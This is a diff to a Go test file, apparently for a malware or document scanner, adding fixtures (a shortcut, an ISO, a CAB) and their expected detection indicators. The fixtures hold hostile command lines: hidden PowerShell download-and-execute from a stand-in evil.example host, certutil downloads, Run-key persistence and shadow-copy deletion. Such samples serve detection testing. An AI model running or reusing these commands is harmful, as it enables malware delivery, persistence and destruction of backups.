@@ -76,8 +76,12 @@ sh.Run("cmd /c powershell -w hidden -nop -c calc");
 			"ObjectPool/_1/\x01Ole10Native": append([]byte{20, 0, 0, 0}, []byte("MZ embedded payload")...),
 		}, nil),
 		"cradle.ps1": []byte(ps),
-		"loader.js":  []byte(js),
-		"run.bat":    []byte("@echo off\r\ncertutil.exe -urlcache -split -f http://evil.example/x.exe %TEMP%\\x.exe\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %TEMP%\\x.exe\r\nvssadmin delete shadows /all /quiet\r\n"),
+		"invoice.lnk": buildLNK(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+			"-w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", `C:\Windows\System32\shell32.dll`),
+		"delivery.iso": buildISO([][2]string{{"README.TXT", "open invoice\r\n"}, {"INVOICE.JS", js}}),
+		"setup.cab":    buildCAB([]string{"setup.exe", "payload.dll"}),
+		"loader.js":    []byte(js),
+		"run.bat":      []byte("@echo off\r\ncertutil.exe -urlcache -split -f http://evil.example/x.exe %TEMP%\\x.exe\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %TEMP%\\x.exe\r\nvssadmin delete shadows /all /quiet\r\n"),
 	}
 }
 
@@ -153,16 +157,19 @@ func TestGolden(t *testing.T) {
 // silently loses one fails here.
 func TestGoldenIndicators(t *testing.T) {
 	want := map[string][]string{
-		"packed.exe":  {"pe.section_wx", "pe.high_entropy_code", "pe.packer_section", "pe.suspicious_timestamp"},
-		"dropper.pdf": {"pdf.javascript", "pdf.auto_action", "pdf.launch", "pdf.embedded_file", "pdf.name_obfuscation", "pdf.uri"},
-		"dropper.zip": {},
-		"macro.docm":  {"vba.macros", "vba.autoexec", "ooxml.external_relationship"},
-		"macro.doc":   {"vba.macros", "vba.autoexec"},
-		"cradle.ps1":  {"script.download_cradle", "script.invoke_expression", "script.encoded_command"},
-		"loader.js":   {"script.activex_object", "script.wscript_shell", "script.download_cradle", "script.hidden_execution"},
-		"run.bat":     {"script.download_cradle", "script.run_key", "script.shadow_delete"},
+		"packed.exe":   {"pe.section_wx", "pe.high_entropy_code", "pe.packer_section", "pe.suspicious_timestamp"},
+		"dropper.pdf":  {"pdf.javascript", "pdf.auto_action", "pdf.launch", "pdf.embedded_file", "pdf.name_obfuscation", "pdf.uri"},
+		"dropper.zip":  {},
+		"macro.docm":   {"vba.macros", "vba.autoexec", "ooxml.external_relationship"},
+		"macro.doc":    {"vba.macros", "vba.autoexec"},
+		"cradle.ps1":   {"script.download_cradle", "script.invoke_expression", "script.encoded_command"},
+		"loader.js":    {"script.activex_object", "script.wscript_shell", "script.download_cradle", "script.hidden_execution"},
+		"run.bat":      {"script.download_cradle", "script.run_key", "script.shadow_delete"},
+		"invoice.lnk":  {"lnk.launches_interpreter", "lnk.download_cradle", "lnk.invoke_expression", "lnk.hidden_execution"},
+		"delivery.iso": {"archive.disk_image_payload"},
+		"setup.cab":    {},
 	}
-	wantArtifacts := map[string]int{"dropper.pdf": 3, "dropper.zip": 3, "macro.docm": 2, "macro.doc": 2}
+	wantArtifacts := map[string]int{"dropper.pdf": 3, "dropper.zip": 3, "macro.docm": 2, "macro.doc": 2, "delivery.iso": 2, "setup.cab": 0}
 	fx := fixtures(t)
 	for name, ids := range want {
 		t.Run(name, func(t *testing.T) {
